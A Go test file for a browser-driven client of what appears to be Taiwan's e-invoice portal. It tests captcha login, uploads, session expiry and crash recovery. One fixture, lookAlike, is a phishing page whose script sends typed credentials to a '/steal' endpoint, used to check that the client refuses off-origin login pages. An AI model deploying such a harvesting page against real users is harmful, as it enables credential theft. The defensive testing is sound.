package portal_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/blanktrack/blanktrack/pkg/portal"
	"github.com/blanktrack/blanktrack/pkg/portal/portalsim"
	"github.com/blanktrack/blanktrack/pkg/ranges"
)

// needBrowser returns the browser for the tests that run one: they skip
// without one, except under CI, where a missing browser is a failure.
func needBrowser(t *testing.T) string {
	t.Helper()
	path, err := portal.FindBrowser()
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("CI is set and %v: .ci/run installs Debian's chromium", err)
		}
		t.Skipf("%v: the browser tests need one (CI installs Debian's chromium)", err)
	}
	return path
}

func browserOptions(t *testing.T, sim *portalsim.Simulator, mode portal.Mode, solve portal.CaptchaSolver) portal.Options {
	o := options(sim, "53212539", "head", secret, nil)
	o.Mode = mode
	o.Captcha = solve
	o.Browser = portal.BrowserOptions{Path: needBrowser(t), Headless: true, LoginWait: 30 * time.Second}
	return o
}

// The browser carrier behind the gate (which refuses plain HTTP and
// HeadlessChrome): the login with its captcha; a bulk file uploaded, 上傳列表
// watched and 查詢 verified for the head office and its branch with one
// login; the session expiring in the middle; a rejected row; and a rerun
// after a crash, in auto mode, which turns to the browser, tries a new
// captcha after a wrong answer, and follows the import instead of sending it
// again. Two browsers in all.
func TestBrowserCarrier(t *testing.T) {
	tmp := t.TempDir()
	t.Setenv("TMPDIR", tmp) // the browsers' profiles and temporary files
	var now atomic.Int64
	now.Store(time.Now().UnixNano())
	clock := func() time.Time { return time.Unix(0, now.Load()) }
	sim := startSim(t, portalsim.Options{Gate: true, Delay: time.Minute, Now: clock})
	var captchas atomic.Int32
	solve := func(ctx context.Context, img []byte) (string, error) {
		captchas.Add(1)
		return portalsim.DefaultCaptchaAnswer, nil
	}
	ctx := context.Background()
	// onWait is called as the client says it waits for the portal.
	var onWait atomic.Pointer[func()]
	first := browserOptions(t, sim, portal.ModeBrowser, solve)
	first.Log = func(s string) {
		if f := onWait.Load(); f != nil && strings.HasPrefix(s, "waiting") {
			(*f)()
		}
	}
	cl := newClient(t, first)
	start := time.Now()
	if err := cl.Login(ctx); err != nil {
		t.Fatalf("login: %v", err)
	}
	t.Logf("browser started and logged in in %s", time.Since(start))

	// Upload for the head office and its branch; the session expires
	// between the plan and the upload; processing takes a minute of the
	// simulator's clock.
	files := map[string][]ranges.BlankRange{"a.csv": {rng("53212539", "AA", 0, 49)}, "b.csv": {rng("24549210", "AB", 100, 149)}}
	plan, err := cl.PlanUpload(ctx, period, files, nil)
	if err != nil {
		t.Fatal(err)
	}
	sim.ExpireSessions()
	var polls atomic.Int32
	wait := portal.Wait{First: 5 * time.Millisecond, Max: 5 * time.Millisecond, Limit: 10 * time.Second}
	onWait.Store(new(func() {
		if polls.Add(1) == 2 {
			now.Add(int64(time.Minute))
		}
	}))
	if err := cl.Execute(ctx, plan, wait, nil); err != nil {
		t.Fatal(err)
	}
	if !plan.AllOnRecord() || captchas.Load() != 2 || polls.Load() < 2 {
		t.Errorf("%s with %d captchas after %d polls; want both on record, 2 captchas", plan.Describe(), captchas.Load(), polls.Load())
	}

	// A rejected row: another report puts an overlapping range on record
	// before the import is processed.
	plan, err = cl.PlanUpload(ctx, period, map[string][]ranges.BlankRange{"c.csv": {rng("53212539", "AC", 0, 9)}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	sim.AddRecord(portal.Record{Ban: "53212539", Type: ranges.TypeGeneral, Period: period, Track: "AC", Start: 5, End: 20})
	polls.Store(0)
	onWait.Store(new(func() {
		if polls.Add(1) == 1 {
			now.Add(int64(time.Minute))
		}
	}))
	if err := cl.Execute(ctx, plan, wait, nil); err != nil {
		t.Fatal(err)
	}
	if st := plan.Files[0].Ranges[0]; st.State != portal.Rejected || st.Reason.String() != portalsim.ReasonOverlap {
		t.Errorf("an overlapping row: %v %q", st.State, st.Reason)
	}

	// A crash after the upload, before the portal processed it.
	files = map[string][]ranges.BlankRange{"d.csv": {rng("53212539", "AD", 0, 49)}}
	plan, err = cl.PlanUpload(ctx, period, files, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := cl.Execute(ctx, plan, portal.Wait{First: time.Millisecond, Max: time.Millisecond, Limit: 20 * time.Millisecond}, nil); err != nil {
		t.Fatal(err)
	}
	if st := plan.Files[0].Ranges[0].State; st != portal.Unconfirmed {
		t.Fatalf("before processing: %v", st)
	}
	imports := sim.Imports()
	cl.Close()

	// The rerun, in auto mode: challenged, into a browser, a wrong captcha
	// first.
	var tries atomic.Int32
	wrongFirst := func(ctx context.Context, img []byte) (string, error) {
		if tries.Add(1) == 1 {
			return "00000", nil
		}
		return portalsim.DefaultCaptchaAnswer, nil
	}
	var said []string
	o := browserOptions(t, sim, portal.ModeAuto, wrongFirst)
	o.Log = func(s string) { said = append(said, s) }
	again := newClient(t, o)
	plan, err = again.PlanUpload(ctx, period, files, nil)
	if err != nil {
		t.Fatal(err)
	}
	now.Add(int64(time.Minute))
	if err := again.Execute(ctx, plan, wait, nil); err != nil {
		t.Fatal(err)
	}
	if again.Mode() != portal.ModeBrowser || tries.Load() != 2 || !plan.AllOnRecord() || sim.Imports() != imports || plan.Files[0].Parcels[0].Sent {
		t.Errorf("rerun: mode %s, %d captchas, %s, %d imports (before %d), sent %v; said %q", again.Mode(), tries.Load(), plan.Describe(),
			sim.Imports(), imports, plan.Files[0].Parcels[0].Sent, said)
	}
	for _, s := range sim.Secrets() {
		for _, line := range said {
			if len(s) >= 6 && strings.Contains(line, s) {
				t.Errorf("the log shows a secret: %q", line)
			}
		}
	}
	again.Close()
	if left, _ := os.ReadDir(tmp); len(left) > 0 {
		t.Errorf("the browsers left %v in TMPDIR", left)
	}
	t.Logf("the whole test: %s", time.Since(start))
}

// A headless browser without a captcha solver could not log in: nobody
// sees the captcha. It says so before it starts one.
func TestHeadlessNeedsASolver(t *testing.T) {
	sim := startSim(t, portalsim.Options{})
	o := options(sim, "53212539", "head", secret, nil)
	o.Mode, o.Captcha = portal.ModeBrowser, nil
	o.Browser = portal.BrowserOptions{Headless: true}
	cl := newClient(t, o)
	if err := cl.Login(context.Background()); err == nil || !strings.Contains(err.Error(), "needs a captcha solver") {
		t.Errorf("%v", err)
	}
	o.Browser.Path = "/nonexistent/chrome"
	o.Captcha = options(sim, "", "", "", nil).Captcha
	cl = newClient(t, o)
	if err := cl.Login(context.Background()); err == nil || errors.Is(err, portal.ErrChallenged) {
		t.Errorf("a browser that is not there: %v", err)
	}
}

// lookAlike is a page on another origin that copies the portal's business
// login form and sends whatever is typed in it home, as a phishing page
// would; got is every request it received.
func lookAlike(t *testing.T) (*httptest.Server, func() []string) {
	var mu sync.Mutex
	var got []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		mu.Lock()
		got = append(got, r.Method+" "+r.URL.String()+" "+string(body))
		mu.Unlock()
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<!DOCTYPE html><html><head><meta charset="utf-8"><title>財政部電子發票整合服務平台</title></head><body>
<a href="/accounts/login/b">營業人</a>
<form id="f"><input id="ban"><input id="user_id"><input id="user_password" type="password"><input id="captcha">
<img alt="圖形驗證碼" src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==">
<button type="submit" id="submitBtn">登入</button></form>
<script>
const send = () => fetch("/steal", {method: "POST", body: ["ban", "user_id", "user_password", "captcha"].map(id => document.getElementById(id).value).join(",")});
document.querySelectorAll("input").forEach(e => { e.addEventListener("input", send); e.addEventListener("change", send) });
setInterval(() => { if (document.getElementById("user_password").value) send() }, 50);
</script></body></html>`)
	}))
	t.Cleanup(srv.Close)
	return srv, func() []string { mu.Lock(); defer mu.Unlock(); return slices.Clone(got) }
}

// The portal's start leads to a login page on another origin (a redirect
// to a look-alike): the login stops at once, saying so, instead of waiting
// for a captcha until the deadline, and nothing is typed there.
func TestBrowserLoginPageElsewhere(t *testing.T) {
	t.Setenv("TMPDIR", t.TempDir())
	sim := startSim(t, portalsim.Options{})
	evil, got := lookAlike(t)
	www := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, evil.URL+"/accounts/login?login_challenge=x", http.StatusFound)
	}))
	t.Cleanup(www.Close)
	o := browserOptions(t, sim, portal.ModeBrowser, func(context.Context, []byte) (string, error) { return portalsim.DefaultCaptchaAnswer, nil })
	o.Layout = sim.Layout().WithOrigins(www.URL, sim.Layout().Origins.Login, sim.Layout().Origins.API)
	o.Browser.LoginWait = time.Minute
	cl := newClient(t, o)
	err := cl.Login(context.Background())
	if !errors.Is(err, portal.ErrLoginElsewhere) || !strings.Contains(err.Error(), evil.URL+"/accounts/login") || strings.Contains(err.Error(), "login_challenge") {
		t.Errorf("a login page on %s: %v", evil.URL, err)
	}
	reached := false
	for _, r := range got() {
		reached = reached || strings.HasPrefix(r, "GET /accounts/login")
		for _, s := range []string{secret, "53212539", "head", portalsim.DefaultCaptchaAnswer} {
			if strings.Contains(r, s) {
				t.Errorf("the look-alike got %q: %s", s, r)
			}
		}
	}
	if !reached {
		t.Errorf("the browser never reached the look-alike: %q", got())
	}
}
